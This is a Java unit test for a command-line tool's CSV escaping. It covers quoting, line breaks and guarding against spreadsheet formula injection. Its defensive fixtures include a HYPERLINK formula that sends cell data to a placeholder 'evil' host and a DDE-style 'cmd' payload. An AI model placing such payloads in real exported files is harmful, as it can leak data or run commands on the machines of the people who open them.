package io.fluxbase.mcp.cli.output;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class CsvTest {

    static Stream<Arguments> fields() {
        return Stream.of(
                Arguments.of("plain", "plain"),
                Arguments.of("", ""),
                Arguments.of("read:tables,write:tables", "\"read:tables,write:tables\""),
                Arguments.of("say \"hi\"", "\"say \"\"hi\"\"\""),
                Arguments.of(" padded ", "\" padded \""),
                Arguments.of("two\nlines", "\"two\nlines\""),
                Arguments.of("crlf\r\nline", "\"crlf\r\nline\""),
                // a spreadsheet would run these as formulas: a caller's user agent or client name, say
                Arguments.of("=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
                        "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\""),
                Arguments.of("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
                Arguments.of("-2+3", "'-2+3"),
                Arguments.of("@SUM(A1:A2)", "'@SUM(A1:A2)"),
                Arguments.of("\t=1", "'\t=1"),
                Arguments.of("'quoted", "''quoted"),
                // numbers stay numbers
                Arguments.of("-42", "-42"),
                Arguments.of("-1.5e3", "-1.5e3"),
                Arguments.of("+7", "+7"));
    }

    @ParameterizedTest(name = "[{0}] -> [{1}]")
    @MethodSource("fields")
    void quotesOnlyWhenNeeded(String value, String expected) {
        assertThat(Csv.field(value)).isEqualTo(expected);
    }

    @ParameterizedTest(name = "[{0}]")
    @MethodSource("fields")
    void givesEveryGuardedValueBackAsItWas(String value, String written) {
        String unquoted = written.startsWith("\"") ? written.substring(1, written.length() - 1).replace("\"\"", "\"")
                : written;
        assertThat(Csv.unguarded(unquoted)).isEqualTo(value);
    }

    @Test
    void writesHeaderAndRowsWithEmptyFieldsForMissingValues() {
        Grid grid = Grid.withHeaders("id", "scopes", "user_id")
                .row("k1", "read:tables,read:schema", null);

        assertThat(Csv.render(grid)).isEqualTo("""
                id,scopes,user_id
                k1,"read:tables,read:schema",
                """);
    }
}
